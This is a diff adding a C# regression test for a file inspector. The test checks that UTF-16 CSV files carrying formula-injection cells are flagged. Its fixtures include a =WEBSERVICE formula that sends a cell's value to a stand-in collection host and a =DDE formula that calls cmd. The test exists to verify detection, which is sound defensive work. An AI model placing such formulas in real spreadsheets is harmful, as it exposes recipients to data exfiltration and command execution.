@@ -18,6 +18,28 @@ public sealed class CsvFetchTests
         (await TestInspection.InspectAsync(Encoding.UTF8.GetBytes(sheets), "export.csv")).Has("csv.external-fetch");
     }
 
+    /// <summary>
+    /// Regression (review 31, defect 10): a CSV saved as UTF-16 (Excel's "Unicode Text", which Excel and LibreOffice
+    /// open and compute) with a WEBSERVICE cell or LibreOffice's DDE() was clean: the gate before the line check looked
+    /// for the ASCII bytes of those words. It looks for them as the text's encoding writes them.
+    /// </summary>
+    [Fact]
+    public async Task Regression_a_utf16_csv_with_webservice_or_dde_cells_was_clean()
+    {
+        const string fetch = "name,value\r\nA,1\r\n=WEBSERVICE(\"http://collect.example.invalid/?\"&A1),2\r\n";
+        const string dde = "a,b\r\n=DDE(\"cmd\";\"/C echo inert\";\"A0\"),1\r\n";
+        foreach (var encoding in new Encoding[] { Encoding.Unicode, Encoding.BigEndianUnicode, new UnicodeEncoding(false, false), new UnicodeEncoding(true, false) })
+        {
+            var bytes = encoding.GetPreamble().Concat(encoding.GetBytes(fetch)).ToArray();
+            (await TestInspection.InspectAsync(bytes, "export.csv")).Has("csv.external-fetch");
+            var verdict = await TestInspection.InspectAsync(encoding.GetPreamble().Concat(encoding.GetBytes(dde)).ToArray(), "export.csv");
+            verdict.Has("csv.dde-injection");
+            verdict.IsMalicious();
+        }
+
+        (await TestInspection.InspectAsync(Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("nom,service\r\nDUPONT,IMPORT nocturne\r\n")).ToArray(), "export.csv")).IsClean();
+    }
+
     [Fact]
     public async Task The_function_named_in_plain_text_or_a_dde_cell_after_it_are_told_apart()
     {
